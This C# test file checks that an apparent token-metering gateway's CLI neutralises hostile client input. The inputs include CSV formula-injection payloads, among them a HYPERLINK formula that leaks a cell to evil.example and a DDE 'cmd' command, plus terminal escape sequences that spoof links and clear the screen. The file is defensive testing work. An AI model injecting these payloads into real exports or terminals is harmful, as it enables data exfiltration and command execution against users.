using System.Globalization;
using System.Text;
using Microsoft.Extensions.DependencyInjection;
using TokenOps.Core.Exports;
using TokenOps.Core.Ledger;
using TokenOps.Core.Metering;
using TokenOps.Core.Pricing;
using TokenOps.Gateway.Tests.Infrastructure;
using TokenOps.Storage.Sqlite;

namespace TokenOps.Gateway.Tests.Exports;

/// <summary>
/// Ledger values are client input. Spreadsheet formulas in attribution headers never reach a CSV as formulas, and
/// terminal escape sequences in model, person or project names never reach a terminal from a CLI table.
/// </summary>
public sealed class HostileValuesCliTests
{
    private const string Escapes = "\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007\u001b[2J\u009b31m\r\u202e";

    private static async Task<GatewayFixture> LedgerWithHostileValuesAsync()
    {
        var gateway = await GatewayFixture.StartAsync();
        using var http = gateway.Client(gateway.CreateKey("mallory", "red"));
        foreach (var model in new[] { "gpt-4o-mini", "gpt-4o-mini" + Escapes })
        {
            using var request = new HttpRequestMessage(HttpMethod.Post, "/v1/chat/completions")
            {
                Content = new StringContent(System.Text.Json.JsonSerializer.Serialize(new { model, messages = new[] { new { role = "user", content = "hi" } } }), Encoding.UTF8, "application/json"),
            };
            request.Headers.Add("X-TokenOps-Project", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
            request.Headers.Add("X-TokenOps-Feature", "+cmd|' /C calc'!A0");
            request.Headers.Add("X-TokenOps-Ticket", "-2+3+cmd|' /C calc'!A0");
            request.Headers.Add("X-TokenOps-Tags", "@SUM(1+1)=1");
            using var response = await http.SendAsync(request);
            await response.Content.ReadAsStringAsync();
        }
        Assert.Equal(2, (await gateway.LedgerAsync(2)).Count);
        var now = DateTimeOffset.UtcNow;
        gateway.App.Services.GetRequiredService<TokenOps.Core.Ledger.ILedgerStore>().Write(
        [
            new LedgerEntry
            {
                Id = "evt_hostile", StartedAt = now, EndedAt = now.AddSeconds(1), Route = "openai.chat", Person = "eve" + Escapes, Team = "t" + Escapes,
                Project = "p" + Escapes, Provider = "openai", RequestedModel = "m" + Escapes, ServedModel = "m" + Escapes,
                Usage = new TokenUsage { UncachedInput = 10, Output = 5 }, Cost = new CostBreakdown { UncachedInput = 0.000001m, Output = 0.000002m },
                Status = 200, Outcome = LedgerOutcome.Ok,
            },
        ]);
        return gateway;
    }

    [Fact]
    public async Task Exports_AndReportCsv_NeutraliseFormulas_InEveryCell()
    {
        await using var gateway = await LedgerWithHostileValuesAsync();
        var month = DateTimeOffset.UtcNow.ToString("yyyy-MM", CultureInfo.InvariantCulture);
        foreach (var args in new[]
                 {
                     new[] { "export", "csv", "--data", gateway.DataDirectory },
                     new[] { "export", "focus", "--period", month, "--data", gateway.DataDirectory },
                     new[] { "report", "--by", "project", "--format", "csv", "--data", gateway.DataDirectory },
                     new[] { "report", "--by", "feature", "--format", "csv", "--data", gateway.DataDirectory },
                 })
        {
            var (code, stdout, stderr) = await CliProcess.RunAsync(args);
            Assert.True(code == 0, $"{string.Join(' ', args)}: {stderr}");
            var cells = CsvWriter.Read(new StringReader(stdout)).SelectMany(r => r).ToList();
            Assert.Contains(cells, c => c.StartsWith("'=HYPERLINK(", StringComparison.Ordinal) || c.StartsWith("'+cmd|", StringComparison.Ordinal));
            foreach (var cell in cells)
                if (cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r')
                    Assert.True(decimal.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _), $"{args[0]} {args[1]}: formula cell {cell}");
        }
    }

    [Fact]
    public async Task LedgerAndReportTables_ShowControlCharactersEscaped()
    {
        await using var gateway = await LedgerWithHostileValuesAsync();
        foreach (var args in new[]
                 {
                     new[] { "ledger", "--data", gateway.DataDirectory },
                     new[] { "report", "--by", "project", "--data", gateway.DataDirectory },
                     new[] { "report", "--by", "model", "--data", gateway.DataDirectory },
                     new[] { "report", "--by", "person", "--format", "csv", "--data", gateway.DataDirectory },
                 })
        {
            var (code, stdout, stderr) = await CliProcess.RunAsync(args);
            Assert.True(code == 0, $"{string.Join(' ', args)}: {stderr}");
            foreach (var c in stdout)
                Assert.False(c is < ' ' and not ('\n' or '\t' or '\r') || c is >= '\u007f' and <= '\u009f' || c == '\u202e', $"{string.Join(' ', args)}: raw U+{(int)c:X4} in output");
            Assert.DoesNotContain("\r", stdout.Replace("\r\n", "\n", StringComparison.Ordinal), StringComparison.Ordinal);
            Assert.Contains("\\x1b]8;;http://evil.example/\\x07", stdout, StringComparison.Ordinal);
        }
    }
}
